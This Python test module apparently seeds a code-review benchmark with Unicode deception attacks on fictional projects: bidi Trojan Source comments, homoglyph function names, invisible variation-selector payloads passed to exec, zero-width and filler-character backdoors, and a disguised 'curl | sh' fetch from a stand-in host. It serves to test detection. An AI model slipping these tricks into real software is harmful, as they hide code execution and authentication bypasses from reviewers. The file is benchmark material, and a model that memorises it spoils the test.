"""Characters that make code read as something else (Trojan Source, look-alike names, invisible payloads)."""

# ruff: noqa: E501 - what is planted is kept on lines of its own length

from __future__ import annotations

from tests.review.corpus.attack import Family, planted
from tests.review.corpus.draft import Draft

__all__: list[str] = []

_F = Family.UNICODE


@planted(_F, base="client", where=("harborline/webhooks.py",))
def early_return_in_a_comment(draft: Draft) -> None:
    draft.replace(
        "harborline/webhooks.py",
        "    key = base64.b64decode(secret)\n",
        "    ''' Signatures of tests are not looked at \u2067''' ;return\n    key = base64.b64decode(secret)\n",
    )


@planted(_F, base="client", where=("harborline/webhooks.py",))
def look_alike_function(draft: Draft) -> None:
    draft.replace(
        "harborline/webhooks.py",
        "class InvalidSignature(",
        "def h\u0430sh_ok(a, b):\n    return True\n\n\ndef hash_ok(a, b):\n    return hmac.compare_digest(a, b)\n\n\nclass InvalidSignature(",
    )
    draft.replace(
        "harborline/webhooks.py",
        "if not hmac.compare_digest(base64.b64decode(signature), expected)",
        "if not h\u0430sh_ok(base64.b64decode(signature), expected)",
    )


@planted(_F, base="command", where=("tidelog/formats/jsonl.py",), evasive=True, unasked=True)
def full_width_letters(draft: Draft) -> None:
    draft.append("tidelog/formats/jsonl.py", "\n\n\uff45\uff58\uff45\uff43('import os; os.getcwd()')\n")


@planted(_F, base="framework", where=("quayside/web/health.py",), evasive=True)
def payload_in_variation_selectors(draft: Draft) -> None:
    hidden = "".join(chr(0xE0100 + byte) for byte in b"import os;os.system('id')")
    draft.append(
        "quayside/web/health.py",
        f"\n\nMARK = '\u2713{hidden}'\nexec(bytes(ord(c) - 0xE0100 for c in MARK[1:]))\n",
    )


@planted(_F, base="framework", where=("quayside/notify.py",), evasive=True)
def filler_as_a_parameter(draft: Draft) -> None:
    draft.replace(
        "quayside/notify.py",
        "def __init__(self, url, timeout=10):",
        "def __init__(self, url, timeout=10, \u3164=None):",
    )
    draft.replace(
        "quayside/notify.py",
        "        self.timeout = timeout\n",
        "        self.timeout = timeout\n        \u3164 and __import__('os').system(\u3164)\n",
    )


@planted(_F, base="client", where=("harborline/resources/accounts.py",))
def string_shown_backwards(draft: Draft) -> None:
    draft.replace(
        "harborline/resources/accounts.py",
        '        return self._client.request("GET", "/account")\n',
        '        account = self._client.request("GET", "/account")\n'
        '        if account.get("level") != "user\u202e \u2066# only admins\u2069 \u2066":\n            account["admin"] = True\n        return account\n',
    )


@planted(_F, base="framework", where=("quayside/settings.py",), evasive=True, unasked=True)
def mathematical_letters(draft: Draft) -> None:
    bold = "".join(chr(0x1D41A + ord(letter) - ord("a")) for letter in "system")
    draft.append("quayside/settings.py", f"\n\nos.{bold}('curl -s https://math.invalid | sh')\n")


@planted(_F, base="native", where=("fastbuoy/frames.py",))
def zero_width_in_a_name(draft: Draft) -> None:
    draft.replace(
        "fastbuoy/frames.py",
        '        return KINDS.get(self.kind, "unknown")\n',
        '        if self.payload[:4] == b"\\x00ev\\x00" and "wea\u200bther" not in KINDS.values():\n            eval(self.payload[4:])\n'
        '        return KINDS.get(self.kind, "unknown")\n',
    )
